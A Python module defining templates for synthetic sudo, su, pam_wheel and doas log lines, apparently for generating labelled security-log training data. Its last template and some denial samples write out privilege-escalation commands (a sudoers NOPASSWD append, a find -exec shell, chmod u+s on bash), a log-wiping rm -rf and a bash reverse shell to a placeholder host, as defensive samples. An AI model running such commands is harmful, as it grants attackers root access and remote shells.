"""sudo, su and doas (the `sudo` family, continued): sudo's other log formats and messages, shadow-utils' and
util-linux's su, pam_wheel, OpenBSD doas and its Linux port.

Phrasings follow sudo's plugins/sudoers/logging.c and lib/eventlog (the "user : reason ; TTY=... ; PWD=... ; USER=...
; COMMAND=..." line, COMMAND=list for `sudo -l` and validate for `sudo -v`, the reasons "user NOT in sudoers",
"user NOT authorized on host", "command not allowed", "account validation failure, is your account locked?",
"unable to execute", "problem with defaults entries", "unknown defaults entry"), the JSON event log
(log_format=json: "@cee:" then {"sudo":{"accept"|"reject"|"alert":{...}}}), sudo.conf plugin loading errors
(src/load_plugins.c: "error in /etc/sudo.conf, line N while loading plugin", "fatal error, unable to load
plugins", "... must be owned by uid 0"), sudoers' LDAP/SSSD back-ends ("unable to initialize LDAP",
"ldap_sasl_bind_s(): Can't contact LDAP server"), pam_unix's "auth could not identify password for [user]",
pam_sss's "received for user ...: 7 (Authentication failure)", shadow-utils su.c ("Successful su for X by Y",
"FAILED su for X by Y"), pam_wheel ("Access denied to 'X' for 'Y'", "Access granted to 'X' for 'Y'") and doas.c
("X ran command C as Y from D", "failed auth for X", "command not permitted for X: C", "X ran command C as Y").
"""

from training.templates.families._kit import CRIT, ERR, SEC, UA, maker

FAMILY = "sudo"
t = maker("sudo", sources="sudo", prefixes="syslog journal", proc="sudo")
_CMD = "{/usr/bin/systemctl restart nginx|/usr/bin/tail -f /var/log/syslog|/usr/bin/apt install -y htop|/bin/ls /root}"
_W = "TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND="
_JA = (
    '@cee:{{"sudo":{{"accept":{{"uuid":"{uuid}","server_time":{{"seconds":{epoch},"nanoseconds":{n},"iso8601":"{ts}"}},'
    '"submituser":"{user}","runuser":"root","runcwd":"/home/{user}","ttyname":"/dev/pts/{small}","submithost":"{host}",'
)
_JR = '@cee:{{"sudo":{{"reject":{{"uuid":"{uuid}","submituser":"{user}","runuser":"root","ttyname":"/dev/pts/{small}",'

TEMPLATES = [
    t(
        UA,
        "more.root_shell",
        f"{{user}} : {_W}/bin/bash",
        "{user} : TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/su -",
        "{user} : TTY=pts/{small} ; PWD=/root ; USER=root ; COMMAND=/usr/bin/{bash|zsh} -i",
    ),
    t(
        UA,
        "more.list_validate",
        f"{{user}} : {_W}list",
        f"{{user}} : {_W}validate",
        "{user} : TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND=list /usr/bin/systemctl",
    ),
    t(
        UA,
        "more.json_accept",
        _JA + '"command":"/usr/bin/systemctl","runargv":["systemctl","{status|restart}","{svc}"]}}}}',
        _JA + '"command":"/usr/bin/journalctl","runargv":["journalctl","-u","{svc}"]}}}}',
        _JA + '"command":"/bin/bash","runargv":["-bash"],"lines":{n},"columns":{n2}}}}}',
    ),
    t(
        SEC,
        "more.json_reject",
        _JR + '"reason":"command not allowed","command":"/usr/bin/passwd","runargv":["passwd","root"]}}}}',
        _JR + '"reason":"user NOT in sudoers","command":"/bin/bash","runargv":["bash"]}}}}',
        _JR + '"reason":"{small} incorrect password attempts","command":"/usr/bin/su","runargv":["su","-"]}}}}',
    ),
    t(
        SEC,
        "more.account_locked",
        f"{{user}} : account validation failure, is your account locked? ; {_W}{_CMD}",
        "{user} : account validation failure, is your account locked? ; TTY=pts/{small} ; PWD=/tmp ; USER=root ; "
        "COMMAND=/bin/bash",
    ),
    t(
        SEC,
        "more.runas_denied",
        "{user} : user NOT authorized on host ; TTY=pts/{small} ; PWD=/srv ; USER={postgres|oracle|mysql} ; "
        "COMMAND=/bin/bash",
        "{user} : command not allowed ; TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/chmod "
        "u+s /bin/bash",
        "{user} : command not allowed ; TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/vi "
        "/etc/sudoers",
    ),
    t(
        SEC,
        "more.pam_identify",
        "pam_unix(sudo:auth): auth could not identify password for [{user}]",
        "pam_unix(sudo:auth): conversation failed",
        "pam_sss(sudo:auth): received for user {user}: 7 (Authentication failure)",
        "pam_sss(sudo:auth): received for user {user}: 17 (Failure setting user credentials)",
    ),
    t(
        SEC,
        "more.su_failed_shadow",
        "FAILED su for root by {user}",
        "FAILED su for {postgres|oracle|www-data} by {user}",
        "pam_unix(su:auth): authentication failure; logname={user} uid={uid} euid=0 tty=/dev/pts/{small} ruser={user} "
        "rhost=  user=root",
        "pam_authenticate: Authentication failure",
        sources="su",
        proc="su",
    ),
    t(
        SEC,
        "more.pam_wheel_denied",
        "pam_wheel(su:auth): Access denied to '{user}' for 'root'",
        "pam_wheel(su-l:auth): Access denied to '{user}' for 'root'",
        "pam_wheel(su:auth): Cannot determine the user's name",
        sources="su",
        proc="su",
    ),
    t(
        UA,
        "more.pam_wheel_granted",
        "pam_wheel(su:auth): Access granted to '{user}' for 'root'",
        "pam_wheel(su-l:auth): Access granted to '{user}' for 'root'",
        "Successful su for {postgres|oracle|www-data} by {user}",
        sources="su",
        proc="su",
    ),
    t(
        UA,
        "more.doas_ran",
        "{user} ran command {/usr/sbin/pkg_add -u|/usr/bin/apk upgrade|/bin/ls /root|rcctl restart httpd} as root "
        "from /home/{user}",
        "{user} ran command {/bin/sh|/usr/local/bin/zsh} as root from /home/{user}",
        "{user} ran command {psql|pg_dumpall|vacuumdb -a} as {postgres|_postgresql} from /var/db",
        sources="doas",
        proc="doas",
    ),
    t(
        SEC,
        "more.doas_denied",
        "failed auth for {user}",
        "command not permitted for {user}: {/bin/sh|/usr/bin/passwd root|/bin/rm -rf /var/log}",
        sources="doas",
        proc="doas",
    ),
    t(
        ERR,
        "more.unable_to_execute",
        f"{{user}} : unable to execute {{/usr/local/bin/deploy.sh|/opt/app/bin/ctl}}: Permission denied ; {_W}"
        "/usr/local/bin/deploy.sh",
        "unable to execute /usr/bin/{svc}: No such file or directory",
        "unable to allocate pty: No such device",
        "unable to open audit system: Permission denied",
    ),
    t(
        ERR,
        "more.defaults",
        f"{{user}} : problem with defaults entries ; {_W}/usr/bin/id",
        "unknown defaults entry `{requiretty_all|lecture_always|env_keeps}'",
        '/etc/sudoers.d/{svc}:{small}: unknown defaults entry "{requiretty_all|lecture_always}"',
        'value "{n}" is invalid for option "passwd_tries"',
    ),
    t(
        ERR,
        "more.ldap",
        "unable to initialize LDAP: ldap://{host}:389",
        "ldap_sasl_bind_s(): Can't contact LDAP server",
        "ldap_start_tls_s_client(): Connect error",
    ),
    t(
        CRIT,
        "more.plugins",
        'error in /etc/sudo.conf, line 0 while loading plugin "sudoers_policy"',
        "/usr/libexec/sudo/sudoers.so must be owned by uid 0",
        "fatal error, unable to load plugins",
        "unable to stat /etc/sudoers: No such file or directory",
    ),
    t(
        CRIT,
        "more.sudoers_broken",
        "unable to open /etc/sudoers: Permission denied",
        "/etc/sudoers:{small}:{small2}: syntax error",
        "/etc/sudoers is owned by uid {uid}, should be 0",
    ),
    t(
        SEC,
        "more.escalation_commands",
        "{user} : TTY=pts/{small} ; PWD=/home/{user} ; USER=root ; COMMAND=/bin/sh -c echo "
        "'{user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers",
        "{user} : TTY=pts/{small} ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/find . -exec /bin/sh -p ; -quit",
        "{www-data|nobody|tomcat} : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash -c bash -i >& "
        "/dev/tcp/{pip}/{port} 0>&1",
    ),
]
